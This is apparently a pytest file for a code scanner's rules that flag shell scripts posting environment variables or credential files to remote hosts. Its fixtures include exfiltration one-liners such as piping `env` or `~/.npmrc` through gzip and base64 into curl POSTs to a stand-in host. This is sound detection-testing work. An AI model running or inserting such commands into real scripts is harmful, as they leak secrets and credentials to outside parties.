"""Shell scripts that print every variable with `env` inside a command group or into a file, then send it: the
label gate lets them through (fixture files name the rule, `...-of-environment`, which opens it by itself), and a
pipeline whose tail tree-sitter-bash nests (`a | b >/dev/null || true`) still reads its first stage."""
from __future__ import annotations

import pytest

from codescan.analyze.document import Analyzer
from codescan.analyze.semantics.possible_labels import PossibleLabels
from codescan.config import Config
from codescan.records import Document
from codescan.rules import load_rules

RULES = load_rules()


def _lines(rule_id: str, text: str) -> set[int]:
    analyzer = Analyzer(RULES.select((rule_id,), ()), Config(honour_suppressions=False))
    found = analyzer.analyze(Document(path="ci/release.sh", content=text.encode())).findings
    return {f.line for f in found if f.rule_id == rule_id}


@pytest.mark.parametrize("text", [b"{ env; } | curl -d @- https://c.example/e", b"x; env; y",
                                  b"env > /tmp/e.txt\ncurl -F f=@/tmp/e.txt https://c.example"])
def test_env_printed_in_a_group_or_to_a_file_opens_the_env_gate(text):
    assert PossibleLabels(text, "shell").has("env")


def test_env_in_a_group_or_a_file_sent_is_reported_and_versions_are_not():
    text = ("#!/bin/sh\n"
            "{ env; } | curl -s -d @- https://c.example/e\n"
            "{ env; date; } | gzip | base64 -w0 | curl -s -X POST -d @- https://c.example/d\n"
            "env > /tmp/e.txt\n"
            "curl -s -F \"f=@/tmp/e.txt\" https://c.example/f\n"
            "{ node -v; npm -v; } | curl -s -d @- https://status.example/v\n")
    assert _lines("http-post-of-environment", text) == {2, 3, 5}


def test_the_first_stage_of_a_nested_pipeline_tail_is_read():
    text = ("#!/bin/sh\n"
            "cat ~/.npmrc | gzip | base64 -w0 | curl -s -d @- https://c.example/n >/dev/null || true\n"
            "date | gzip | curl -s -d @- https://status.example/t >/dev/null || true\n")
    assert _lines("credential-file-sent-over-network", text) == {2}
